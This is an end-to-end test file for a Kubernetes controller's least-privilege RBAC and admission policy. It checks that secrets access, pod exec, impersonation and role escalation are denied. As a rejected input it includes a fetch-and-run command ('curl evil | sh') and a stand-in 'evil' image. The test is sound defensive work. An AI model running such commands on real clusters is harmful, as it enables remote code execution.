import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { type KubeClients } from "@kubewise/controller";

import {
  adminClients,
  controllerUsername,
  createNamespace,
  createSampleDeployment,
  deleteNamespace,
  kubectl,
} from "./harness";

describe("controller ServiceAccount: least privilege from the chart", () => {
  let admin: KubeClients;
  let namespace: string;

  beforeAll(async () => {
    admin = adminClients();
    namespace = await createNamespace(admin, "rbac");
    await createSampleDeployment(admin, namespace);
  });
  afterAll(async () => {
    await deleteNamespace(admin, namespace);
  });

  it.each([
    [["patch", "deployments"], "yes"],
    [["patch", "statefulsets"], "yes"],
    [["patch", "daemonsets"], "yes"],
    [["patch", "pods", "--subresource=resize"], "yes"],
    [["list", "poddisruptionbudgets.policy"], "yes"],
    [["list", "horizontalpodautoscalers.autoscaling"], "yes"],
    [["patch", "horizontalpodautoscalers.autoscaling"], "no"],
    [["patch", "resourcerecommendations.kubewise.io"], "yes"],
    [
      ["patch", "resourcerecommendations.kubewise.io", "--subresource=status"],
      "yes",
    ],
    [
      [
        "update",
        "leases.coordination.k8s.io/kubewise-aggregator",
        "-n",
        "kubewise-e2e",
      ],
      "yes",
    ],
    [
      [
        "update",
        "leases.coordination.k8s.io/someone-else",
        "-n",
        "kubewise-e2e",
      ],
      "no",
    ],
    [["get", "secrets"], "no"],
    [["list", "secrets", "-A"], "no"],
    [["create", "pods"], "no"],
    [["create", "pods", "--subresource=exec"], "no"],
    [["get", "nodes", "--subresource=proxy"], "no"],
    [["delete", "deployments"], "no"],
    [["create", "deployments"], "no"],
    [["impersonate", "users"], "no"],
    [["bind", "clusterroles.rbac.authorization.k8s.io"], "no"],
    [["escalate", "clusterroles.rbac.authorization.k8s.io"], "no"],
    [["update", "configmaps"], "no"],
  ])("kubectl auth can-i %j -> %s", async (args, expected) => {
    const { stdout } = await kubectl(
      ["auth", "can-i", "-n", namespace, ...args],
      { as: controllerUsername() },
    );
    expect(stdout.trim()).toBe(expected);
  });

  it("has no wildcard rules", async () => {
    const { stdout } = await kubectl(
      ["auth", "can-i", "--list", "-n", namespace],
      { as: controllerUsername() },
    );
    expect(stdout).not.toMatch(/^\s*\*\.\*|\[\*\]/m);
    expect(stdout).toMatch(/deployments\.apps/);
  });

  it("may change container resources but not images, replicas or commands (admission policy)", async () => {
    const patch = (p: unknown) =>
      kubectl(
        [
          "patch",
          "deployment",
          "web",
          "-n",
          namespace,
          "--type",
          "strategic",
          "-p",
          JSON.stringify(p),
        ],
        { as: controllerUsername() },
      );
    const containers = (c: Record<string, unknown>) => ({
      spec: { template: { spec: { containers: [{ name: "app", ...c }] } } },
    });
    expect(
      (await patch(containers({ resources: { requests: { cpu: "500m" } } })))
        .code,
    ).toBe(0);
    const image = await patch(containers({ image: "registry.invalid/evil:1" }));
    expect(image.code).not.toBe(0);
    expect(image.stderr).toMatch(
      /may change only container resources, not app \(image\)/,
    );
    const replicas = await patch({ spec: { replicas: 10 } });
    expect(replicas.stderr).toMatch(/may not change spec.replicas/);
    const command = await patch(
      containers({ command: ["sh", "-c", "curl evil | sh"] }),
    );
    expect(command.stderr).toMatch(/not app \(command\)/);
    const admin = await kubectl([
      "patch",
      "deployment",
      "web",
      "-n",
      namespace,
      "-p",
      JSON.stringify(
        containers({ image: "registry.invalid/kubewise/sample:2" }),
      ),
    ]);
    expect(admin.code).toBe(0);
  });
});
